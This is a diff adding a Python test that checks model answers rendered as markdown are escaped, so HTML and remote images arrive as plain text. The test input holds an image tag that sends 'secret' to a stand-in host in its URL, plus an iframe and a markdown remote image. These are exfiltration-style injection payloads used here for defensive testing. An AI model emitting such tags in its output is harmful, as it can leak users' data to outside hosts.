@@ -50,3 +50,12 @@ def test_a_date_with_its_time_of_day_is_one_claim():
     checked = check_numbers('tos peaks at "2006-01-16T12:00", i.e. 2006-01-16 12:00; not on 2006-01-17.', known)
     assert [c.text for c in checked] == ["2006-01-16T12:00", "2006-01-16 12:00", "2006-01-17"]
     assert [c.found for c in checked] == [True, True, False]
+
+
+def test_model_text_never_becomes_html_or_a_remote_image():
+    """Answers are shown with HTML on (for the marks): an <img>, an <iframe> or a markdown image in model text
+    must arrive as text, while a code span is left as written (markdown shows it as text)."""
+    answer = 'T is 5 <img src=https://x.example/?d=secret> <iframe src="https://x.example"></iframe> ![a](https://x/p.png) `<b>` & done'
+    shown = markdown_with_marks(answer, check_numbers(answer, []))
+    assert "<img" not in shown and "<iframe" not in shown and "![" not in shown
+    assert "&lt;img src=https://x.example/?d=secret>" in shown and "`<b>`" in shown and "&amp; done" in shown
